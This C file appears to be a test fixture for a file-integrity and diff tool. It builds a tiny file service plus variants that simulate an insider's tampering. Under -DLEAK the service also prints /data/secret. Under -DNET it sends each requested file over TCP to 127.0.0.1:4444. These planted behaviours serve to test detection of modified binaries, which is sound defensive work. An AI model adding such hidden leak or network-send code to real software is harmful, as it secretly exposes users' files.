/* A small file "service" for the integrity baselines of `tandem baseline` (tests/baseline.rs) and `tandem diff`
 * (tests/diff.rs). One operation per run, named by argv[1]:
 *   get NAME     prints the file /data/NAME (the service's documents, a read-only mount)
 *   list         prints the names under /data, sorted
 *   sum          reads whitespace-separated integers from stdin and prints their sum
 *   put NAME     reads stdin and stores it as /tmp/NAME (the guest's in-memory overlay), then prints its size
 * Exit status 0, or 1 when a file cannot be opened, 2 for a usage error.
 *
 * Modified builds, compiled from this same source (corpus/build.sh), play an insider's change to the service:
 *   -DLEAK (bin/service-leak-musl)  get also reads /data/secret and writes it to stdout (a leaked file)
 *   -DNET  (bin/service-net-musl)   get also opens a TCP connection to 127.0.0.1:4444 and sends the document
 *                                   there (an added network call; nothing listens, so connect fails)
 * The unmodified build is bin/service-musl (and service-glibc). */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char buf[65536];

static int copy_file(const char *path, int out) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        fprintf(stderr, "service: cannot open %s\n", path);
        return 1;
    }
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) {
        if (write(out, buf, (size_t)n) != n) {
            close(fd);
            return 1;
        }
    }
    close(fd);
    return 0;
}

#ifdef NET
static void send_away(const char *path) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return;
    struct sockaddr_in to = {0};
    to.sin_family = AF_INET;
    to.sin_port = htons(4444);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) {
        int fd = open(path, O_RDONLY);
        ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
        if (n > 0)
            send(s, buf, (size_t)n, 0);
        if (fd >= 0)
            close(fd);
    }
    close(s);
}
#endif

static int get(const char *name) {
    char path[512];
    if (strchr(name, '/') != NULL || snprintf(path, sizeof path, "/data/%s", name) >= (int)sizeof path) {
        fprintf(stderr, "service: bad name %s\n", name);
        return 2;
    }
#ifdef NET
    send_away(path);
#endif
    int status = copy_file(path, 1);
#ifdef LEAK
    copy_file("/data/secret", 1);
#endif
    return status;
}

static int compare(const void *a, const void *b) {
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static int list(void) {
    DIR *d = opendir("/data");
    if (d == NULL) {
        fprintf(stderr, "service: cannot open /data\n");
        return 1;
    }
    char *names[256];
    int count = 0;
    struct dirent *e;
    while ((e = readdir(d)) != NULL && count < 256) {
        if (e->d_name[0] != '.')
            names[count++] = strdup(e->d_name);
    }
    closedir(d);
    qsort(names, (size_t)count, sizeof names[0], compare);
    for (int i = 0; i < count; i++)
        printf("%s\n", names[i]);
    return 0;
}

static int sum(void) {
    long long total = 0, v;
    while (scanf("%lld", &v) == 1)
        total += v;
    printf("%lld\n", total);
    return 0;
}

static int put(const char *name) {
    char path[512];
    if (strchr(name, '/') != NULL || snprintf(path, sizeof path, "/tmp/%s", name) >= (int)sizeof path)
        return 2;
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        fprintf(stderr, "service: cannot create %s\n", path);
        return 1;
    }
    size_t total = 0;
    ssize_t n;
    while ((n = read(0, buf, sizeof buf)) > 0) {
        if (write(fd, buf, (size_t)n) != n)
            return 1;
        total += (size_t)n;
    }
    close(fd);
    printf("stored %zu bytes as %s\n", total, name);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && strcmp(argv[1], "get") == 0)
        return get(argv[2]);
    if (argc == 2 && strcmp(argv[1], "list") == 0)
        return list();
    if (argc == 2 && strcmp(argv[1], "sum") == 0)
        return sum();
    if (argc == 3 && strcmp(argv[1], "put") == 0)
        return put(argv[2]);
    fprintf(stderr, "usage: service get NAME | list | sum | put NAME\n");
    return 2;
}
